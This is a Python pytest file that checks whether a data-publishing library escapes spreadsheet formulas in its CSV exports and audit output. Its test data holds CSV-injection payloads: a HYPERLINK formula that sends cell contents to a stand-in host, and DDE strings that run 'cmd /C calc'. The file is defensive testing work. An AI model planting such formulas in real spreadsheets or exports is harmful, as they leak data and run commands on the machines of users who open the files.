"""CSV outputs escape spreadsheet formulas (issue [leaks] item 8): a text cell starting with
``=``, ``+``, ``-``, ``@``, tab or CR (and not a plain number) gets a leading ``'``; numbers
and ordinary labels are written unchanged."""

from __future__ import annotations

import csv

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest
from click.testing import CliRunner

import ppdp
from ppdp.cli import cli
from ppdp.releases.storage import csv_safe_array, csv_safe_frame, csv_safe_text

EVIL = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
        "\t=1+1", "\r=1+1"]
PLAIN = ["-5", "+3.5", "1e-3", "-.5", "Female", "a=b", "", "Bachelors degree(BA AB BS)"]


@pytest.mark.parametrize("v", EVIL)
def test_formula_cells_are_escaped(v):
    assert csv_safe_text(v) == "'" + v
    assert csv_safe_array(pa.array([v])).to_pylist() == ["'" + v]


@pytest.mark.parametrize("v", PLAIN)
def test_numbers_and_labels_are_unchanged(v):
    assert csv_safe_text(v) == v
    assert csv_safe_array(pa.array([v])).to_pylist() == [v]


def test_array_forms():
    d = pa.DictionaryArray.from_arrays(pa.array([0, 1, 0], pa.int32()), pa.array(["=1+1", "ok"]))
    assert csv_safe_array(d).to_pylist() == ["'=1+1", "ok", "'=1+1"]
    assert csv_safe_array(pa.array([1, -2])).to_pylist() == [1, -2]  # numbers untouched
    assert csv_safe_array(pa.array(["=x", None])).to_pylist() == ["'=x", None]
    df = csv_safe_frame(pd.DataFrame({"v": ["@x", "y"], "n": [-1.0, 2.0]}))
    assert df["v"].tolist() == ["'@x", "y"] and df["n"].tolist() == [-1.0, 2.0]


def _evil_table(n=600):
    rng = np.random.default_rng(0)
    df = pd.DataFrame({"zip": rng.choice(["=HYPERLINK(\"http://x\")", "@SUM(1)", "02134"], n),
                       "dx": rng.choice(["=cmd|' /C calc'!A0", "+flu", "-cold", "asthma", "hiv", "cancer"], n)})
    return ppdp.Table.from_pandas(df, quasi=["zip"], sensitive=["dx"])


def _cells(path):
    with open(path, newline="") as f:
        return [c for row in csv.reader(f) for c in row]


def test_release_export_csv_escapes(tmp_path):
    rel = ppdp.publish(_evil_table(), ppdp.UniformPerturbation(retention=0.5))
    files = rel.export_csv(tmp_path / "csv")
    cells = [c for f in files for c in _cells(f)]
    assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells), sorted(set(cells))[:10]
    assert "'=cmd|' /C calc'!A0" in cells and "'@SUM(1)" in cells and "asthma" in cells


def test_audit_csvs_escape(tmp_path):
    t = _evil_table()
    rel = ppdp.publish(t, ppdp.UniformPerturbation(retention=0.5))
    rel.save(tmp_path / "rel")
    t.to_pandas().to_csv(tmp_path / "src.csv", index=False)
    out = tmp_path / "audit"
    r = CliRunner().invoke(cli, ["audit", str(tmp_path / "rel"), "--input", str(tmp_path / "src.csv"), "-o", str(out)])
    assert r.exit_code in (0, 1), r.output
    written = sorted(out.glob("*.csv"))
    assert written
    cells = [c for f in written for c in _cells(f)]
    risky = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _is_number(c))]
    assert not risky, risky[:10]
    assert any(c.startswith("'=") or c.startswith("'+") or c.startswith("'-") for c in cells)


def _is_number(s):
    try:
        float(s)
        return True
    except ValueError:
        return False
